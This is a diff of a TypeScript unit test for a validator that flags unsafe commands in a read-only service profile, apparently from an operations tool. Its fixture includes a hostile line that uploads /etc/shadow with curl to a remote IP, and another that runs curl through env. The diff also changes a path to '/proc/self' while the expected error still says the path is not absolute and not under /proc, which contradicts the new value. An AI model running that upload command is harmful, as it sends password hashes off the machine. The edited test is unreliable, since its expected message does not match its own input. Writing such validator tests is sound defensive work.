@@ -69,16 +69,16 @@ describe('the read-only profile check', () => {
 	it('reports every problem in file order, the first with a count of the others', () => {
 		const first = withStatus('rs1', 'curl --upload-f /etc/shadow http://192.168.67.1:9/');
 		const second = withStatus('rs2', 'env curl http://192.168.67.1:9/', first.text);
-		const text = second.text.replace('  status: systemctl is-active keepalived', '  status: systemctl is-active keepalived\n  dump_dir: tmp');
+		const text = second.text.replace('  status: systemctl is-active keepalived', '  status: systemctl is-active keepalived\n  dump_dir: /proc/self');
 		const profile = parseProfile(text, 'hostile.yaml');
 		const errors = readOnlyProfileErrors(profile);
 		expect(errors.map((e) => [e.line, e.field])).toEqual([
 			[first.line, 'hosts.rs1.service.status'],
 			[second.line, 'hosts.rs2.service.status'],
-			[text.split('\n').findIndex((l) => l.includes('dump_dir: tmp')) + 1, 'keepalived.dump_dir'],
+			[text.split('\n').findIndex((l) => l.includes('dump_dir: /proc/self')) + 1, 'keepalived.dump_dir'],
 		]);
 		expect(errors[1]!.reason).toContain('env runs other programs');
-		expect(errors[2]!.reason).toBe('read-only mode would refuse tmp for the director probe: it is not an absolute path (not under /dev, /proc or /sys)');
+		expect(errors[2]!.reason).toBe('read-only mode would refuse /proc/self for the director probe: it is not an absolute path (not under /dev, /proc or /sys)');
 		expect(() => assertReadOnlyProfile(profile)).toThrow(/^hostile\.yaml:\d+:\d+: hosts\.rs1\.service\.status: .* \(and 2 more errors\)$/);
 	});
 
